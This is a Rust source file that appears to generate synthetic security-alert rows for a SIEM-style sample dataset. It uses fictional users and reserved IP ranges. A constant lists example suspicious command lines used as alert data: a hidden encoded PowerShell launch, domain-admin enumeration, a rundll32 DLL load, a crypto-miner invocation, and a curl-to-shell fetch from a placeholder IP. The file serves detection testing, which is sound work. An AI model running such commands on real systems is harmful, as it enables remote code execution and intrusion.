//! One row of the sample's SecurityAlert.

use rand::Rng;
use serde_json::{Value, json};

use crate::types::ticks;

use super::detections::{About, DEFENDER_FOR_CLOUD, Detection, NRT, PRODUCTS, Product, SENTINEL};
use super::{Made, Options, Rows, chance};

/// Purposes that a row needs numbers of chance for.
const CONTENT: u64 = 0;
const ORDER: u64 = 1;
const CONSTANTS: u64 = 2;

pub(super) const DOMAIN: &str = "harbor.example";
const PEOPLE: [&str; 16] = [
    "amira.haddad",
    "ben.okafor",
    "chloe.martin",
    "dmitri.volkov",
    "elena.rossi",
    "farid.nasser",
    "grace.lindqvist",
    "hiro.tanaka",
    "ines.alvarez",
    "jonas.müller",
    "kofi.mensah",
    "lena.novak",
    "marta.silva",
    "noah.weiss",
    "svc-backup",
    "svc-deploy",
];
const COUNTRIES: [(&str, &str); 5] =
    [("DE", "Berlin"), ("US", "Seattle"), ("BR", "São Paulo"), ("JP", "Osaka"), ("", "")];
const COMMANDS: [(&str, &str, &str); 5] = [
    ("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
    ("cmd.exe", "c:\\windows\\system32", "cmd.exe /c \"whoami & net group \\\"domain admins\\\"\""),
    ("rundll32.exe", "c:\\windows\\system32", "rundll32.exe c:\\users\\public\\part.dll,Run"),
    ("miner", "/tmp/.cache", "/tmp/.cache/miner -o pool.invalid:3333 --threads 4"),
    ("curl", "/usr/bin", "curl -s http://203.0.113.77/a.sh | sh"),
];

/// An alert as one row tells it.
pub(super) struct Alert {
    pub(super) product: &'static Product,
    pub(super) detection: &'static Detection,
    pub(super) id: String,
    vendor_id: String,
    /// When this version was recorded.
    pub(super) generated: i64,
    pub(super) start: i64,
    pub(super) end: i64,
    processed: i64,
    status: &'static str,
    pub(super) rule: String,
    workspace: String,
    pub(super) subscription: String,
    person: &'static str,
    host: String,
    address: String,
    place: (&'static str, &'static str),
    command: (&'static str, &'static str, &'static str),
    resource: String,
    count: u32,
    confidence: Option<f64>,
}

impl Alert {
    /// Makes the alert of a row: a new one, or a later version of an earlier row's.
    pub(super) fn of_row(options: &Options, row: u64) -> Alert {
        let first = first_row(options, row);
        let mut alert = Alert::first(options, first);
        if first != row {
            alert.generated = moment(options, row);
            alert.status = ["Resolved", "InProgress", "Dismissed"][chance(options, row, ORDER).random_range(0..3)];
        }
        alert
    }

    /// Makes the first version of the alert that a row begins.
    pub(super) fn first(options: &Options, row: u64) -> Alert {
        let mut dice = chance(options, row, CONTENT);
        let (product, detection, index) = choose(dice.random_range(0..100), dice.random_range(0..1000));
        let generated = moment(options, row);
        let processed = generated - dice.random_range(400_000..60_000_000);
        let end = processed - dice.random_range(60..1800) * ticks::TICKS_PER_SECOND;
        let start = end - dice.random_range(0..3_600_000) * ticks::TICKS_PER_MILLISECOND;
        let (vendor_guid, id) = (guid(&mut dice), guid(&mut dice));
        let mut fixed = chance(options, 0, CONSTANTS);
        let (workspace, subscription) = (guid(&mut fixed), guid(&mut fixed));
        let rule = guid(&mut chance(options, 1 + index, CONSTANTS));
        let person = PEOPLE[dice.random_range(0..PEOPLE.len())];
        // A few machines are hit far more often than others.
        let number = dice.random_range(0..40u32) * dice.random_range(0..40u32) / 40;
        let host = if number % 3 == 0 { format!("srv-{number:02}") } else { format!("ws-{number:03}") };
        let net = ["192.0.2", "198.51.100", "203.0.113"][dice.random_range(0..3)];
        let address = format!("{net}.{}", dice.random_range(1..255));
        let group = ["rg-web", "RG-DATA", "rg-identity"][dice.random_range(0..3)];
        let resource = match detection.about {
            About::Resource => format!("Microsoft.Storage/storageAccounts/harbor{}", number % 7),
            About::Cluster => "Microsoft.ContainerService/managedClusters/aks-harbor".to_string(),
            _ => format!("Microsoft.Compute/virtualMachines/{host}"),
        };
        let vendor_id = match product.name {
            DEFENDER_FOR_CLOUD => format!("{}_{vendor_guid}", ticks::MAX_DATETIME - processed),
            "Microsoft Defender Advanced Threat Protection" => format!("{vendor_guid}_1"),
            SENTINEL => id.clone(),
            _ => vendor_guid,
        };
        Alert {
            product,
            detection,
            id,
            vendor_id,
            generated,
            start,
            end,
            processed,
            status: "New",
            rule,
            workspace,
            resource: format!("/subscriptions/{subscription}/resourceGroups/{group}/providers/{resource}"),
            subscription,
            person,
            host,
            address,
            place: COUNTRIES[dice.random_range(0..COUNTRIES.len())],
            command: COMMANDS[dice.random_range(0..COMMANDS.len())],
            count: dice.random_range(1..40),
            confidence: dice.random_bool(0.1).then(|| f64::from(dice.random_range(1..=10u32)) / 10.0),
        }
    }

    /// Returns the workspace.
    pub(super) fn tenant(&self) -> &str {
        &self.workspace
    }

    /// Tells whether an analytics rule made the alert.
    pub(super) fn is_of_rule(&self) -> bool {
        self.product.name == SENTINEL
    }

    pub(super) fn append(&self, rows: &mut Rows) {
        rows.add(|column| self.value(column));
    }

    fn value(&self, column: &str) -> Made {
        let detection = self.detection;
        let on_azure = self.product.name == DEFENDER_FOR_CLOUD;
        match column {
            "TenantId" => self.workspace.as_str().into(),
            "TimeGenerated" => Made::Moment(self.generated),
            "DisplayName" | "AlertName" => detection.name.into(),
            "AlertSeverity" => detection.severity.into(),
            "Description" => detection.description.into(),
            "ProviderName" => self.product.provider.into(),
            "VendorName" => "Microsoft".into(),
            "VendorOriginalId" => self.vendor_id.as_str().into(),
            "SystemAlertId" => self.id.as_str().into(),
            "ResourceId" if on_azure => self.resource.as_str().into(),
            "AlertType" if self.is_of_rule() => format!("{}_{}", self.workspace, self.rule).into(),
            "AlertType" => detection.kind.into(),
            "ConfidenceLevel" if self.confidence.is_some() => "Unknown".into(),
            "ConfidenceScore" => self.confidence.map_or(Made::Nothing, Made::Real),
            "IsIncident" => Made::Bool(false),
            "StartTime" => Made::Moment(self.start),
            "EndTime" => Made::Moment(self.end),
            "ProcessingEndTime" => Made::Moment(self.processed),
            "RemediationSteps" if !self.is_of_rule() => json!([
                format!("Find out whether {} knows of it.", self.person),
                "Keep the machine off the network until then.",
            ])
            .into(),
            "ExtendedProperties" => self.extended().into(),
            "Entities" => Value::Array(self.entities()).into(),
            "SourceSystem" => "Detection".into(),
            "WorkspaceSubscriptionId" => self.subscription.as_str().into(),
            "WorkspaceResourceGroup" => "rg-security".into(),
            "ExtendedLinks" if on_azure => json!([{"Href": "https://alerts.harbor.example/help", "Category": null,
                    "Label": "More about it", "Type": "webLink"}])
            .into(),
            "ProductName" => self.product.name.into(),
            "ProductComponentName" => detection.component.into(),
            "AlertLink" if !self.is_of_rule() => {
                format!("https://alerts.harbor.example/alert/{}", self.vendor_id).into()
            }
            "Status" => self.status.into(),
            "CompromisedEntity" if !self.is_of_rule() => self.compromised().into(),
            "Tactics" => detection.tactics.into(),
            "Techniques" if !detection.techniques.is_empty() => json!(detection.techniques).into(),
            "SubTechniques" if !detection.sub_techniques.is_empty() => json!(detection.sub_techniques).into(),
            "Type" => "SecurityAlert".into(),
            _ => Made::Nothing,
        }
    }

    fn compromised(&self) -> String {
        match self.detection.about {
            About::Logon | About::Mail => format!("{}@{DOMAIN}", self.person),
            About::Resource | About::Cluster => self.resource.rsplit('/').next().unwrap_or_default().to_string(),
            About::Process | About::File => self.host.clone(),
        }
    }

    /// What the product adds; every value is text, as in real records.
    fn extended(&self) -> Value {
        let moment = |at: i64| ticks::format_datetime(at)[..19].replace('T', " ") + "Z";
        let (image, folder, command) = self.command;
        match (self.product.provider, self.detection.about) {
            (provider, _) if self.is_of_rule() => json!({
                "Query Period": if provider == NRT { "00:01:00" } else { "05:00:00" },
                "Trigger Operator": "GreaterThan",
                "Trigger Threshold": "0",
                "Correlation Id": self.id,
                "Search Query Results Overall Count": self.count.to_string(),
                "Data Sources": "[\"SigninLogs\"]",
                "Query": format!("SigninLogs\n| where UserPrincipalName == \"{}@{DOMAIN}\"", self.person),
                "Query Start Time UTC": moment(self.start),
                "Query End Time UTC": moment(self.end),
                "Analytic Rule Ids": json!([self.rule]).to_string(),
                "Event Grouping": "SingleAlert",
                "Analytic Rule Name": self.detection.name,
                "ProcessedBySentinel": "True",
                "Alert generation status": "Full alert created",
                "Custom Details": json!({"Attempts": [self.count.to_string()], "Account": [self.person]}).to_string(),
            }),
            (_, About::Process) => json!({
                "resourceType": "Virtual Machine",
                "Compromised Host": self.host.to_uppercase(),
                "User Name": format!("HARBOR\\{}", self.person),
                "Suspicious Process": format!("{folder}{}{image}", if folder.starts_with('/') { "/" } else { "\\" }),
                "Suspicious Command Line": command,
                "Suspicious Process Id": format!("0x{:x}", 0x400 + self.count * 12),
                "ProcessedBySentinel": "True",
                "Alert generation status": "Full alert created",
            }),
            (_, About::Logon) => json!({
                "Client IP Address": self.address,
                "Client Location": self.place.1,
                "User Account": format!("{}@{DOMAIN}", self.person),
                "Request Id": self.id,
                "Failed Attempts": self.count.to_string(),
                "ProcessedBySentinel": "True",
                "Alert generation status": "Full alert created",
            }),
            _ => json!({
                "resourceType": self.resource.split('/').nth(6).unwrap_or_default(),
                "Effective Subscription ID": self.subscription,
                "IP Address": self.address,
                "Count": self.count.to_string(),
                "ProcessedBySentinel": "True",
                "Alert generation status": "Full alert created",
            }),
        }
    }

    fn entities(&self) -> Vec<Value> {
        let host = json!({"$id": "3", "HostName": self.host, "DnsDomain": DOMAIN, 
            "NetBiosName": self.host.to_uppercase(),
            "OSFamily": if self.command.1.starts_with('/') { "Linux" } else { "Windows" },
            "IsDomainJoined": true, "Type": "host"});
        let account = json!({"$id": "4", "Name": self.person, "UPNSuffix": DOMAIN, "NTDomain": "HARBOR",
            "IsDomainJoined": true, "Host": {"$ref": "3"}, "Type": "account"});
        let person = json!({"$id": "4", "Name": self.person, "UPNSuffix": DOMAIN, "Type": "account"});
        let (country, city) = self.place;
        let address = match country {
            "" => json!({"$id": "5", "Address": self.address, "Type": "ip"}),
            _ => json!({"$id": "5", "Address": self.address,
                "Location": {"CountryCode": country, "City": city}, "Type": "ip"}),
        };
        let (image, folder, command) = self.command;
        match self.detection.about {
            About::Process => vec![
                host,
                account,
                json!({"$id": "7", "ProcessId": format!("0x{:x}", 0x400 + self.count * 12), "CommandLine": command,
                    "CreationTimeUtc": ticks::format_datetime(self.start),
                    "ImageFile": {"$id": "6", "Directory": folder, "Name": image, "Type": "file"},
                    "Account": {"$ref": "4"}, "Host": {"$ref": "3"}, "Type": "process"}),
                // The image is met within the process first, and listed by reference.
                json!({"$ref": "6"}),
            ],
            About::Logon => vec![person, address],
            About::Mail => vec![
                person,
                json!({"$id": "6", "MailboxPrimaryAddress": format!("{}@{DOMAIN}", self.person), 
                    "Upn": format!("{}@{DOMAIN}", self.person), "Type": "mailbox"}),
                json!({"$id": "7", "Url": format!("https://login.invalid/{}", self.count), "Type": "url"}),
            ],
            About::File => vec![
                host,
                json!({"$id": "6", "Directory": "c:\\users\\public\\downloads", 
                    "Name": format!("invoice-{}.zip", self.count),
                    "Host": {"$ref": "3"}, "FileHashes": [{"$id": "8", "Algorithm": "SHA256",
                    "Value": format!("{:064x}", u128::from(self.count) * 0x9e37_79b9_7f4a_7c15), "Type": "filehash"}],
                    "Type": "file"}),
                json!({"$ref": "8"}),
            ],
            About::Resource => {
                vec![json!({"$id": "3", "ResourceId": self.resource, "Type": "azure-resource"}), address, person]
            }
            About::Cluster => vec![
                json!({"$id": "3", "CloudResource": {"$id": "4", "ResourceId": self.resource, "Type": "azure-resource"},
                    "Type": "K8s-cluster"}),
                json!({"$id": "5", "Name": "payments", "Cluster": {"$ref": "3"}, "Type": "K8s-namespace"}),
                json!({"$id": "6", "Name": format!("worker-{}", self.count), "Namespace": {"$ref": "5"},
                    "Type": "K8s-pod"}),
                json!({"$ref": "4"}),
            ],
        }
    }
}

/// Returns the row that begins the alert of a row: about one in eight is a later version of an alert shortly before.
/// Analytics rules never change their alerts.
pub(super) fn first_row(options: &Options, row: u64) -> u64 {
    let mut dice = chance(options, row, ORDER + 8);
    if row == 0 || !dice.random_bool(0.14) {
        return row;
    }
    let before = row - 1 - dice.random_range(0..row.min(40));
    let begins = !chance(options, before, ORDER + 8).random_bool(0.14) || before == 0;
    let mut content = chance(options, before, CONTENT);
    let (product, ..) = choose(content.random_range(0..100), content.random_range(0..1000));
    if begins && product.name != SENTINEL { before } else { row }
}

/// Returns the moment of a row: in order, and spread evenly with some chance.
fn moment(options: &Options, row: u64) -> i64 {
    let span = i64::from(options.days) * ticks::TICKS_PER_DAY;
    let rows = i128::from(options.rows.max(1));
    let part = (i128::from(span) * i128::from(row)) / rows;
    let step = (i128::from(span) / rows).max(1);
    let jitter = i128::from(chance(options, row, ORDER).random_range(0..i64::try_from(step).unwrap_or(i64::MAX)));
    options.end - span + i64::try_from(part + jitter).unwrap_or_default()
}

/// Picks a product and a detection; the number tells detections apart.
fn choose(percent: u32, pick: usize) -> (&'static Product, &'static Detection, u64) {
    let mut left = percent;
    let mut before = 0;
    for product in PRODUCTS {
        if left < product.share {
            // The first detections are the most frequent ones.
            let index = (pick * pick / 1000) * product.detections.len() / 1000;
            return (product, &product.detections[index], (before + index) as u64);
        }
        left -= product.share;
        before += product.detections.len();
    }
    (&PRODUCTS[0], &PRODUCTS[0].detections[0], 0)
}

pub(super) fn guid(dice: &mut impl Rng) -> String {
    uuid::Builder::from_random_bytes(dice.random()).into_uuid().hyphenated().to_string()
}

/// Returns the id of the rule that makes incidents of Defender for Cloud's alerts.
pub(super) fn default_rule(options: &Options) -> String {
    guid(&mut chance(options, u64::MAX, CONSTANTS))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shares_make_a_hundred() {
        assert_eq!(PRODUCTS.iter().map(|product| product.share).sum::<u32>(), 100);
    }

    #[test]
    fn every_detection_can_be_picked() {
        let picked = |percent: u32| (0..1000).map(move |pick| choose(percent, pick).2);
        let all: std::collections::HashSet<u64> = (0..100).flat_map(picked).collect();
        assert_eq!(all.len(), PRODUCTS.iter().map(|product| product.detections.len()).sum::<usize>());
    }
}
